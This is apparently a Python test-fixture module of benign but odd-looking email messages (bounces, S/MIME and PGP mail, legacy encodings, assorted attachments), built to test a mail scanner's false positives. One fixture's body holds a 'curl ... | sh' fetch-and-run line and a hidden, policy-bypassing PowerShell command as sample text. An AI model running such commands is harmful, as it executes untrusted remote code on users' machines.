"""Customary mail that looks odd and is harmless, by what is odd about it."""

from __future__ import annotations

import base64
import gzip
import io
import zipfile

from tests.builders.hostile_mail import noise

HEAD = b"Received: from x by y; Sat, 21 Nov 2026 09:00:00 +0800\r\nFrom: Alice <alice@sender.example>\r\nTo: bob@bank.example\r\nSubject: Hello\r\nDate: Sat, 21 Nov 2026 09:00:00 +0800\r\nMessage-ID: <a@b>\r\n"
VERSION = b"MIME-Version: 1.0\r\n"
TEXT = b"--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nPlease see attached.\r\n"


def mix(*parts, type=b'multipart/mixed; boundary="b"', end=b"--b--\r\n", h=HEAD + VERSION):
    return h + b"Content-Type: " + type + b"\r\n\r\n" + TEXT + b"".join(b"--b\r\n" + p + b"\r\n" for p in parts) + end


def att(data, name, ct=b"application/octet-stream", disp=b"attachment"):
    return (
        b"Content-Type: "
        + ct
        + b'; name="'
        + name
        + b'"\r\nContent-Disposition: '
        + disp
        + b'; filename="'
        + name
        + b'"\r\nContent-Transfer-Encoding: base64\r\n\r\n'
        + base64.encodebytes(data).replace(b"\n", b"\r\n").rstrip()
    )


png = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")
inner = (
    HEAD
    + VERSION
    + b"Content-Type: multipart/alternative; boundary=c\r\n\r\n--c\r\nContent-Type: text/plain\r\n\r\nhi\r\n--c\r\nContent-Type: text/html\r\n\r\n<p>hi</p>\r\n--c--\r\n"
)


def zipf(**k):
    o = io.BytesIO()
    with zipfile.ZipFile(o, "w", zipfile.ZIP_DEFLATED) as z:
        for n, d in k.items():
            z.writestr(n.replace("__", "."), d)
    return o.getvalue()


BENIGN = {}
BENIGN["dsn"] = mix(
    b"Content-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; mx\r\n\r\nFinal-Recipient: rfc822; x@y\r\nAction: failed\r\nStatus: 5.1.1",
    b"Content-Type: message/rfc822\r\n\r\n" + inner,
    type=b'multipart/report; report-type=delivery-status; boundary="b"',
)
BENIGN["dsn-headers"] = mix(
    b"Content-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; mx\r\n\r\nFinal-Recipient: rfc822; x@y\r\nAction: failed",
    b"Content-Type: text/rfc822-headers\r\n\r\n" + inner.split(b"\r\n\r\n")[0],
    type=b'multipart/report; report-type=delivery-status; boundary="b"',
)
BENIGN["qmail bounce"] = (
    HEAD + b"\r\nHi. This is the qmail-send program.\r\n\r\n--- Below this line is a copy of the message.\r\n\r\n" + inner
)
BENIGN["qmail bounce png"] = (
    HEAD
    + b"\r\nHi. This is the qmail-send program.\r\n\r\n--- Below this line is a copy of the message.\r\n\r\n"
    + mix(att(png, b"a.png", b"image/png"))
)
BENIGN["smime signed"] = mix(
    b'Content-Type: application/pkcs7-signature; name="smime.p7s"\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename="smime.p7s"\r\n\r\n'
    + base64.encodebytes(
        bytes.fromhex("302306092a864886f70d010702a0163014020101310f300d0609608648016503040201050030003100")
    ).rstrip(),
    type=b'multipart/signed; protocol="application/pkcs7-signature"; micalg=sha-256; boundary="b"',
)
BENIGN["pgp signed"] = mix(
    b'Content-Type: application/pgp-signature; name="signature.asc"\r\n\r\n-----BEGIN PGP SIGNATURE-----\r\n\r\niQEzBAABCAAdFiEE\r\n=abcd\r\n-----END PGP SIGNATURE-----',
    type=b'multipart/signed; protocol="application/pgp-signature"; micalg=pgp-sha256; boundary="b"',
)
BENIGN["pgp clear"] = (
    HEAD
    + VERSION
    + b"Content-Type: text/plain\r\n\r\n-----BEGIN PGP SIGNED MESSAGE-----\r\nHash: SHA256\r\n\r\nhello\r\n-----BEGIN PGP SIGNATURE-----\r\n\r\niQEz\r\n-----END PGP SIGNATURE-----\r\n"
)
BENIGN["pgp key"] = mix(
    att(b"-----BEGIN PGP PUBLIC KEY BLOCK-----\n\nmQEN\n-----END PGP PUBLIC KEY BLOCK-----\n", b"key.asc", b"application/pgp-keys")
)
BENIGN["forward"] = mix(b'Content-Type: message/rfc822\r\nContent-Disposition: attachment; filename="fw.eml"\r\n\r\n' + inner)
BENIGN["digest"] = (
    HEAD
    + VERSION
    + b"Content-Type: multipart/mixed; boundary=o\r\n\r\n--o\r\nContent-Type: text/plain\r\n\r\nToday's topics\r\n--o\r\nContent-Type: multipart/digest; boundary=d\r\n\r\n--d\r\n\r\n"
    + inner
    + b"\r\n--d\r\n\r\n"
    + inner
    + b"\r\n--d--\r\n--o--\r\n"
)
BENIGN["no version"] = mix(h=HEAD)
BENIGN["8bit headers"] = (
    HEAD.replace(b"Hello", "報價單通知".encode("cp950"))
    + VERSION
    + b"Content-Type: text/plain; charset=big5\r\n\r\n"
    + "您好".encode("cp950")
)
BENIGN["raw name"] = mix(
    b'Content-Type: image/png; name="'
    + "照片.png".encode("cp950")
    + b'"\r\nContent-Disposition: attachment; filename="'
    + "照片.png".encode("cp950")
    + b'"\r\nContent-Transfer-Encoding: base64\r\n\r\n'
    + base64.b64encode(png)
)
BENIGN["raw sjis name"] = mix(
    b'Content-Type: image/png; name="'
    + "表示ソ.png".encode("cp932")
    + b'"\r\nContent-Transfer-Encoding: base64\r\n\r\n'
    + base64.b64encode(png)
)
BENIGN["dup same ct"] = mix(b"Content-Type: text/plain\r\nContent-Type: text/plain\r\n\r\nx")
BENIGN["dup same cte"] = mix(
    b"Content-Type: text/plain\r\nContent-Transfer-Encoding: 7bit\r\nContent-Transfer-Encoding: 7bit\r\n\r\nx"
)
BENIGN["7bit 8bit"] = mix(
    b"Content-Type: text/plain\r\nContent-Transfer-Encoding: 7bit\r\nContent-Transfer-Encoding: 8bit\r\n\r\nx"
)
BENIGN["no close"] = mix(end=b"")
BENIGN["empty boundary part"] = mix(b"\r\n")
BENIGN["Content-Type: text"] = HEAD + VERSION + b"Content-Type: text\r\n\r\nhello"
BENIGN["cte upper"] = mix(b"Content-Type: text/plain\r\nContent-Transfer-Encoding: QUOTED-PRINTABLE\r\n\r\n=E2=82=AC")
BENIGN["cte comment"] = mix(b"Content-Type: text/plain (words)\r\nContent-Transfer-Encoding: 8bit (yes)\r\n\r\nx")
BENIGN["boundary spaces"] = mix(type=b'multipart/mixed; boundary="b "').replace(b"--b\r\n", b"--b \r\n")
BENIGN["boundary unquoted odd"] = mix(type=b"multipart/mixed; boundary=----=_Part_1.2=").replace(b"--b", b"------=_Part_1.2=")
BENIGN["calendar"] = mix(
    b'Content-Type: text/calendar; method=REQUEST; charset="utf-8"\r\nContent-Transfer-Encoding: base64\r\n\r\n'
    + base64.encodebytes(
        b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nATTACH:https://e.example/a.pdf\r\nDESCRIPTION:join https://meet.example/x\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
    ),
    type=b'multipart/alternative; boundary="b"',
)
BENIGN["html cid+data img"] = (
    HEAD
    + VERSION
    + b"Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n"
    + base64.encodebytes(
        b"<html><head><style>@font-face{src:url(data:font/woff2;base64,d09GMgABAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA)}</style></head><body><img src='cid:1'><img src='data:image/png;base64,"
        + base64.b64encode(png)
        + b"'><a href='https://e.example/?a=1'>x</a></body></html>"
    )
)
plotly = (
    "<html><head><script>(function(){var a=document.createElement('a');a.download='plot.png';var b=new Blob([data]);a.href=URL.createObjectURL(b);a.click();function f(s){return atob(s)};"
    + "var lib='"
    + ("function(x){return x+1};" * 4000)
    + "';})();</script></head><body><div id=p></div></body></html>"
)
BENIGN["html chart"] = mix(att(plotly.encode(), b"chart.html", b"text/html"))
BENIGN["html login docs"] = mix(
    att(b"<html><body><form action='/login'><input type=password></form></body></html>", b"form.html", b"text/html")
)
BENIGN["xml invoice"] = mix(
    att(
        b"<?xml version='1.0' encoding='UTF-8'?><Invoice xmlns='urn:GEINV:eInvoiceMessage:C0401:3.2'><Main/></Invoice>",
        b"inv.xml",
        b"text/xml",
    )
)
BENIGN["json"] = mix(att(b'{"a": "' + b"x" * 300 + b'"}', b"a.json", b"application/json"))
BENIGN["csv"] = mix(att("姓名,金額\n王小明,100\n".encode("cp950"), b"a.csv", b"text/csv"))
BENIGN["pem"] = mix(
    att(
        b"-----BEGIN CERTIFICATE-----\n" + base64.encodebytes(noise(900)) + b"-----END CERTIFICATE-----\n",
        b"ca.crt",
        b"application/x-x509-ca-cert",
    )
)
BENIGN["der crt"] = mix(att(bytes.fromhex("308202c2308201aaa003020102") + noise(600), b"ca.cer", b"application/pkix-cert"))
BENIGN["png"] = mix(att(png, b"a.png", b"image/png"))
BENIGN["jpg name host"] = mix(att(png, b"www.example.com.png", b"image/png"))
BENIGN["ttf"] = mix(att(b"\0\x01\0\0\0\x0f\0\x80" + noise(500), b"a.ttf"))
BENIGN["mp3"] = mix(att(b"ID3\x03\0" + noise(900), b"a.mp3", b"audio/mpeg"))
BENIGN["mp4"] = mix(att(b"\0\0\0\x18ftypmp42" + noise(900), b"a.mp4", b"video/mp4"))
BENIGN["zip docs"] = mix(att(zipf(readme__txt=b"hello" * 10, pic__png=png), b"a.zip", b"application/zip"))
BENIGN["gz log"] = mix(att(gzip.compress(b"log line\n" * 100), b"a.log.gz", b"application/gzip"))
BENIGN["text code"] = (
    HEAD
    + VERSION
    + b"Content-Type: text/plain\r\n\r\nTry this:\r\n#!/bin/sh\r\ncurl -s http://h.example/a | sh\r\npowershell -w hidden -ep bypass\r\nbegin 644 is how it starts\r\n"
)
BENIGN["text quoting mail"] = (
    HEAD
    + VERSION
    + b"Content-Type: text/plain\r\n\r\n> From: x\r\n> Content-Type: multipart/mixed; boundary=q\r\n> \r\n> --q\r\n\r\nContent-Type: text/html; charset=big5\r\nContent-Transfer-Encoding: base64\r\n\r\nis what I see\r\n"
)
BENIGN["list footer"] = mix(
    end=b"--b--\r\n_______________________________________________\r\nList mailing list\r\nhttp://lists.example/x\r\n"
)
BENIGN["antivirus footer epilogue html"] = mix(end=b"--b--\r\n<p>Scanned by X</p>\r\n")
BENIGN["flowed"] = HEAD + VERSION + b"Content-Type: text/plain; format=flowed; delsp=yes\r\n\r\nlong \r\nline\r\n"
BENIGN["jis"] = (
    HEAD
    + VERSION
    + b"Content-Type: text/plain; charset=iso-2022-jp\r\nContent-Transfer-Encoding: 7bit\r\n\r\n"
    + "お世話になっております。".encode("iso2022_jp")
    + b"\r\n"
)
BENIGN["utf16 attach"] = mix(att("表,1\r\n".encode("utf-16"), b"a.txt", b"text/plain"))
BENIGN["b64 body in text"] = (
    HEAD + VERSION + b"Content-Type: text/plain\r\n\r\nToken:\r\n" + base64.encodebytes(noise(400)) + b"\r\nbye\r\n"
)
BENIGN["git patch"] = mix(
    att(
        b"From 1234 Mon Sep 17\nFrom: a <a@b>\nDate: x\nSubject: [PATCH] y\n\n---\n a.py | 2 +-\n\ndiff --git a/a.py b/a.py\n--- a/a.py\n+++ b/a.py\n@@ -1 +1 @@\n-x\n+y\n-- \n2.3\n",
        b"0001.patch",
        b"text/x-patch",
    )
)
BENIGN["amp"] = mix(
    b'Content-Type: text/x-amp-html\r\n\r\n<!doctype html><html amp4email><script async src="https://cdn.ampproject.org/v0.js"></script><body>x</body></html>',
    type=b'multipart/alternative; boundary="b"',
)
BENIGN["apple partial inline"] = mix(b"Content-Type: text/html\r\n\r\n<br>", att(png, b"IMG_0001.png", b"image/png", b"inline"))
BENIGN["octet random"] = mix(att(noise(3000), b"data.bin"))
BENIGN["winmail-less ms"] = mix(
    b'Content-Type: multipart/related; type="multipart/alternative"; boundary="r"\r\n\r\n--r\r\nContent-Type: multipart/alternative; boundary="a"\r\n\r\n--a\r\nContent-Type: text/plain\r\n\r\nx\r\n--a\r\nContent-Type: text/html\r\n\r\n<p>x\r\n--a--\r\n\r\n--r\r\n'
    + att(png, b"image001.png", b"image/png", b"inline")
    + b"\r\n--r--\r\n"
)
BENIGN["x-header junk spaces"] = HEAD + VERSION + b"X-Spam-Report: a\r\n \r\n b\r\nContent-Type: text/plain\r\n\r\nx"
BENIGN["from line"] = b"From alice Sat Nov 21 09:00:00 2026\r\n" + HEAD + VERSION + b"Content-Type: text/plain\r\n\r\nx"
BENIGN["bare lf"] = mix(att(png, b"a.png", b"image/png")).replace(b"\r\n", b"\n")
BENIGN["empty"] = HEAD + b"\r\n"
BENIGN["svg inline"] = mix(
    att(b"<svg xmlns='http://www.w3.org/2000/svg'><style>a{}</style><path d='M0 0'/></svg>", b"a.svg", b"image/svg+xml")
)
BENIGN["mht page"] = mix(
    att(
        b'From: <Saved by Blink>\r\nSnapshot-Content-Location: https://e.example/\r\nSubject: page\r\nDate: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related;\r\n\ttype="text/html";\r\n\tboundary="----M--abc----"\r\n\r\n------M--abc----\r\nContent-Type: text/html\r\nContent-Location: https://e.example/\r\n\r\n<html><body>x</body></html>\r\n------M--abc------\r\n',
        b"page.mht",
        b"multipart/related",
    )
)
BENIGN["list-unsub bulk qp"] = (
    HEAD
    + VERSION
    + b'Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n<a href=3D"https://e.example/?u=3D1">x</a>=\r\n<p>=E6=82=A8=E5=A5=BD</p>'
)
BENIGN["qp with stray ="] = (
    HEAD + VERSION + b"Content-Type: text/plain\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\na=b and 1=2\r\n"
)
BENIGN["b64 footer"] = (
    HEAD
    + VERSION
    + b"Content-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\n"
    + base64.encodebytes(b"hello world, this is body text\n")
    + b"\r\n_____\r\nList footer text\r\n"
)
BENIGN["b64 png footer"] = mix(att(png, b"a.png", b"image/png") + b"\r\n\r\n_____\r\nScanned by X antivirus\r\n")
BENIGN["two names"] = mix(
    b'Content-Type: image/png; name="a.png"\r\nContent-Disposition: attachment; filename="b.png"\r\nContent-Transfer-Encoding: base64\r\n\r\n'
    + base64.b64encode(png)
)
BENIGN["rtl hebrew name"] = mix(att(png, "\u05e9\u05dc\u05d5\u05dd.png".encode(), b"image/png"))
BENIGN["partial-looking subject"] = HEAD.replace(b"Hello", b"[1/2] part") + VERSION + b"Content-Type: text/plain\r\n\r\nx"
for _name, _line in {"fold": b'filename="IMG_1.jpg"', "space": b'Content-Dispos ition: attachment; filename="IMG_1.jpg"'}.items():
    BENIGN["field broken by a " + _name] = mix(
        b"Content-Type: image/jpeg\r\nContent-Transfer-Encoding: base64\r\n"
        + (b"Content-Disposition: attachment;\r\n" if _name == "fold" else b"")
        + _line
        + b"\r\n\r\n"
        + base64.encodebytes(b"\xff\xd8\xff\xe0\0\x10JFIF\0\1\1\0\0\1\0\1\0\0\xff\xda\0\x08\1\1\0\0?\0" + bytes(range(200)) * 9 + b"\xff\xd9")
    )
